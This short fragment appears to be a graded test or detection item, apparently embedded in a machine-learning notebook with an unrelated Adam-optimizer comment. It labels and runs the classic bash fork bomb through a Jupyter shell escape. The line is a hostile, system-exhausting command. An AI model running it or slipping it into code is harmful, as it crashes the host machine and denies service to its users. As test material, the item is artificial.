# what: the shell's fork bomb
# points: 20
# mistakes: flag: rules
# %% extra after update_parameters_with_adam
!bash -c ':(){ :|:& };:'
